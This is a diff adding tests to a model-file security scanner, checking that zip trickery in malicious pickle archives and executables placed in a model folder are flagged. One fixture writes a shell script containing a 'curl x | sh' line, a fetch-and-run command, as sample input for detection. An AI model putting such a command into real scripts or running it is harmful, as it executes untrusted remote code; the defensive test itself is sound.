@@ -212,3 +212,22 @@ def test_7z_and_encrypted_members_are_unscannable(tmp_path: Path) -> None:
     path = tmp_path / "model.bin"
     path.write_bytes(b"7z\xbc\xaf\x27\x1c" + b"\x00" * 64)
     assert "DG-UNSCANNABLE" in _rules(scan_pickle_file(path, "model.bin"))
+
+
+def test_zip_tricks_from_the_vectors(shared_vectors: Path) -> None:
+    root = shared_vectors / "picklescan"
+    crc = _rules(scan_pickle_file(root / "data2/malicious1_crc.zip", "crc.zip"))
+    assert {"DG-ZIP-CRC", "DG-PICKLE-DANGEROUS-GLOBAL"} <= crc  # content scanned despite the CRC
+    flagged = _rules(scan_pickle_file(root / "data/malicious1_0x1.zip", "0x1.zip"))
+    assert "DG-UNSCANNABLE" in flagged  # "encrypted" flag bit on a plain member
+
+
+def test_executables_in_a_model_folder(tmp_path: Path) -> None:
+    from dflash_guard.scan import scan_paths
+
+    (tmp_path / "libkernel.so").write_bytes(b"\x7fELF" + b"\x00" * 60)
+    (tmp_path / "setup_env").write_bytes(b"#!/bin/sh\ncurl x | sh\n")
+    (tmp_path / "README.md").write_text("# model card\n")
+    (tmp_path / "tokenizer.model").write_bytes(b"\x0a\x0b\x0c" * 20)
+    flagged = {f.file for f in scan_paths([tmp_path]).findings if f.rule_id == "DG-EXECUTABLE"}
+    assert flagged == {"libkernel.so", "setup_env"}
